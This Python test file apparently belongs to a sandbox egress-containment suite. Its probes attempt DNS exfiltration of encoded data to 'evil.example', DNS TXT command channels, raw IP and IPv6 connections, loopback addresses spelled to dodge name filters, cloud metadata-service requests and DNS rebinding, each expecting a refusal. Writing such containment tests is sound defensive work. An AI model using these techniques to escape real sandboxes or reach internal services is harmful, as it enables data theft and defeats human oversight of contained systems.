"""Names and addresses: what a question carries out, what an answer leads to, what an address can be written as."""

from probe import Probe

CAPTURED = ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM")


def leads_to(name, tries, allowed=""):
    """A granted name that the host's own resolver answers with an address nobody granted."""
    return Probe(name, tries, f'''
def attack():
    for turn in range(2):
        for place in {{found[4] for found in socket.getaddrinfo("{name}.example", 443, type=socket.SOCK_STREAM)}}:
            try: answer = exchange(tls("{name}.example", address=place), request("GET", "/open", "{name}.example"))
            except (OSError, Refused): continue
            if b"HTTP/1.1 2" in answer: return "answered"
    raise Refused(status(answer))''', ("Refused: 403", "Refused: 502"), record="request.outcome", allowed=allowed)


ALL = (
    Probe("dns-udp", "a name of 8.8.8.8, to carry data out in a question", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53))
    return arena_answer(s, dns_query("c2VjcmV0.evil.example"))''',
          ("Refused: answered by the cage, not by the arena", "EPERM", "ECONNREFUSED", "TimeoutError")),
    Probe("dns-tcp", "the same over TCP", '''
def attack():
    s = socket.create_connection(("8.8.8.8", 53), 5); q = dns_query("c2VjcmV0.evil.example")
    return arena_answer(s, struct.pack(">H", len(q)) + q)''',
          ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM")),
    Probe("dns-host", "have the host's resolver carry data out", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", 53))
    return arena_answer(s, dns_query("c2VjcmV0.elsewhere.example"))''',
          ("Refused: answered by the cage, not by the arena", "EPERM", "ECONNREFUSED", "TimeoutError")),
    Probe("tcp-raw-address", "TCP to an address no name was ever given", '''
def attack(): return arena_answer(socket.create_connection(("8.8.8.8", 8443), 5), b"GET / HTTP/1.1\\r\\n\\r\\n")''',
          ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM"), record="connection.refused"),
    Probe("ipv6", "TCP over IPv6", '''
def attack(): return arena_answer(socket.create_connection(("2001:db8::8", 443), 5), b"GET / HTTP/1.1\\r\\n\\r\\n")''',
          ("Refused: answered by the cage, not by the arena", "ECONNREFUSED", "ECONNRESET", "EPERM", "ENETUNREACH"),
          record="connection.refused"),
    Probe("dns-text", "a text of 8.8.8.8, to carry orders in", '''
def attack():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53))
    return arena_answer(s, dns_query("c2VjcmV0.evil.example", 16))''',
          ("Refused: answered by the cage, not by the arena", "EPERM", "ECONNREFUSED", "TimeoutError")),
    Probe("dns-odd-names", "names with NUL, dots, percent signs and bytes beyond ASCII in one label", '''
def attack():
    taken, code = [], 0
    for label in (b"api.openai.com\\0", b"api\\0", b"api.openai.com", b"a%2eb", b"a b", "\\uff41pi".encode(), b"*", b"api@evil", b"api/"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("127.0.0.1", 53))
        s.send(dns_query("openai.com").replace(b"\\x06openai", bytes([len(label)]) + label + b"\\x06openai"))
        answer = s.recv(512)
        if answer[6:8] != b"\\0\\0": taken.append(label)
        code = answer[3] & 15
    if not taken: raise Refused("code %d" % code)
    return taken''', ("Refused: code 1", "Refused: code 3", "Refused: code 5")),
    Probe("denied-name", "have the host look a name up that carries data, by connecting to it", '''
def attack(): return arena_answer(socket.create_connection(("c2VjcmV0.elsewhere.example", 443), 10), b"GET / HTTP/1.1\\r\\n\\r\\n")''', CAPTURED),
    Probe("denied-name-tls", "the same by a request that is refused only after the handshake", '''
def attack():
    peer = socket.create_connection(("c2VjcmV0.elsewhere.example", 443), 10)
    try: tls("c2VjcmV0.elsewhere.example", peer=peer)
    except OSError: return arena_answer(socket.create_connection(("c2VjcmV0.elsewhere.example", 443), 10))
    raise Refused("answered by the cage, not by the arena")''', CAPTURED),
    Probe("address-spellings", "the host's loopback, written so that a list of names misses it", '''
def attack():
    reached = []
    for text in ("127.0.0.1", "2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0", "::ffff:127.0.0.1", "::ffff:7f00:1", "localhost", "localhost."):
        try: arena_answer(socket.create_connection((text, 7777), 5), b""); reached.append(text)
        except (OSError, Refused) as error: last = error
    if not reached: raise last
    return reached''', ("ECONNREFUSED", "gaierror", "Refused: answered by the cage, not by the arena")),
    Probe("metadata", "the cloud's metadata service, by its address in three spellings", '''
def attack():
    reached = []
    for text in ("169.254.169.254", "2852039166", "::ffff:169.254.169.254"):
        try: reached.append(arena_answer(socket.create_connection((text, 80), 5), b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))
        except (OSError, Refused) as error: last = error
    if not reached: raise last
    return reached''', CAPTURED, record="request.refused"),
    leads_to("loop", "a granted name that leads to the host's loopback"),
    leads_to("zero", "a granted name that leads to 0.0.0.0"),
    leads_to("mapped", "a granted name that leads to ::ffff:127.0.0.2"),
    leads_to("six", "a granted name that leads to ::1"),
    leads_to("private", "a granted name that leads to 10.0.0.8"),
    leads_to("shared", "a granted name that leads to the carrier's 100.64.0.9"),
    leads_to("unique", "a granted name that leads to fd00::8"),
    leads_to("linklocal", "a granted name that leads to the metadata service"),
    leads_to("alias", "a granted name that is another name for one that leads to loopback"),
    leads_to("rebind", "a granted name that leads somewhere harmless first, then to loopback", "tcp ('8.8.8.8', 443)"),
    leads_to("mixed", "a granted name that leads to a harmless address and to loopback", "tcp ('8.8.8.8', 443)"),
)
